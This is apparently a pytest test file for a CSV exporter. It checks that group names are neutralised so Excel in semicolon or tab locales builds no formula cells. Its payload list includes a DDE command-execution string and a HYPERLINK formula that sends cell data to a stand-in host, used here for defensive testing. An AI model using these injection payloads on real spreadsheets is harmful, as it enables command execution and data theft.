"""CSV downloads opened by a spreadsheet set to another list separator run no formula.

Excel in a locale whose list separator is ';' (most of continental Europe) splits each line of
a ``.csv`` at semicolons, and honours a double quote only where a field starts, so a group
named ``x;=cmd|' /C calc'!A0;`` written by the CSV writer (which quotes only commas, quotes
and line ends) in the group column became a cell of its own holding a formula. Python's csv
reader splits and quotes the same way, so it stands in for the spreadsheet here: with ';',
with a tab, and with ',' (where the text must come back whole, with its quotes visible)."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from faircard.cli import main as cli_main
from faircard.io.export import csv_text, neutralise

PAYLOADS = [
    "x;=cmd|' /C calc'!A0;",
    'x;=HYPERLINK("http://evil.example/?"&A1,"open");',
    "y;+SUM(1,2);",
    "z;@SUM(1);",
    "w; -2+3;",
    'v;"=1+1";',
    "t\t=1+2\t",
    "line\n=2+3",
    "cr\r=2+3",
    "ok;=a;=b;",
]
FORMULA = ("=", "+", "-", "@")


def _cells(text: str, delimiter: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
            for c in row]


def _runs_formula(cell: str) -> bool:
    body = cell.lstrip(' "')
    try:
        float(body.rstrip(' "'))
        return False  # a number
    except ValueError:
        return body.startswith(FORMULA)


def _check_written(text: str, payloads: list[str]) -> None:
    for delimiter in (";", "\t", ","):
        live = [c for c in _cells(text, delimiter) if _runs_formula(c)]
        assert not live, (delimiter, live)
    # read with the file's own separator, each name is there with a visible quote added
    cells = _cells(text, ",")
    for name in payloads:
        assert neutralise(name) in cells
        assert neutralise(name).replace("'", "") == name.replace("'", "")


@pytest.mark.parametrize("name", PAYLOADS)
def test_a_name_with_a_semicolon_makes_no_formula_cell_in_any_column(name):
    frame = pd.DataFrame({"feature": ["g", "g"], "group": [name, "plain"],
                          "selection_rate": [-0.05, 0.5], name: ["a", "b"]})
    _check_written(csv_text(frame), [name])


def test_words_without_a_formula_are_left_as_they_are():
    for text in ("a;b;c", "1;-2;+3.5", "x;", ";", "Black; White", "a\rb", "n\t-4"):
        assert neutralise(text) == text


def test_the_command_lines_group_table_makes_no_formula_cell(tmp_path, capsys):
    rng = np.random.default_rng(3)
    names = PAYLOADS[:4] + ["plain"]
    n = 400
    data = tmp_path / "d.parquet"
    pd.DataFrame({"y": rng.integers(0, 2, n), "score": rng.random(n),
                  "grp": [names[i % len(names)] for i in range(n)]}).to_parquet(data)
    out = tmp_path / "g.csv"
    rc = cli_main(["assess", str(data), "--target", "y", "--score", "score", "--sensitive",
                   "grp", "--bootstrap", "0", "--csv", str(out), "--quiet"])
    assert rc == 0, capsys.readouterr().err
    _check_written(out.read_bytes().decode("utf-8"), names)
